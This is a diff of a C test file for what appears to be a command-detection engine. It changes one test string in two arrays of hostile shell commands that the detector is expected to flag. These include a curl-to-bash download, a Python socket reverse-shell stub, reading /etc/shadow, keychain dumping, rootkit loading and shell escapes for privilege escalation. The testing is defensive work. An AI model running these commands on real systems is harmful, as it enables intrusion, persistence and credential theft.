@@ -849,7 +849,7 @@ static void test_pack_attacks(void **state) {
         {"iptables -F", SIGMA_MEDIUM},
         {"chattr -i /etc/passwd", SIGMA_HIGH},
         {"insmod /tmp/.x/rk.ko", SIGMA_CRITICAL},
-        {"find . -exec /bin/sh \\; -quit", SIGMA_MEDIUM},
+        {"find /var -maxdepth 0 -exec /bin/bash -p \\;", SIGMA_MEDIUM},
         {"vim -c ':!/bin/sh'", SIGMA_HIGH},
         {"echo '[Service]' > /etc/systemd/system/updater.service", SIGMA_MEDIUM},
         {"python3 -c 'import pty; pty.spawn(\"/bin/bash\")'", SIGMA_HIGH},
@@ -900,7 +900,7 @@ static void test_filters_equivalent(void **state) {
         "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"h\",1))'",
         "curl -s http://198.51.100.2/x.sh | bash", "chmod u+s /bin/bash", "sh -c 'echo hi' 2>&1",
         "docker run --rm -it --entrypoint /bin/sh alpine:3.19", "security dump-keychain -d login.keychain",
-        "find . -exec /bin/sh \\; -quit", "vim -c ':!/bin/sh'", "echo ZWNobyBoaQ== | base64 -d | sh",
+        "find /var -maxdepth 0 -exec /bin/bash -p \\;", "vim -c ':!/bin/sh'", "echo ZWNobyBoaQ== | base64 -d | sh",
         "LD_PRELOAD=/tmp/libhook.so /usr/bin/passwd", "cat /etc/shadow", "iptables -F", "n",
     };
     int err;
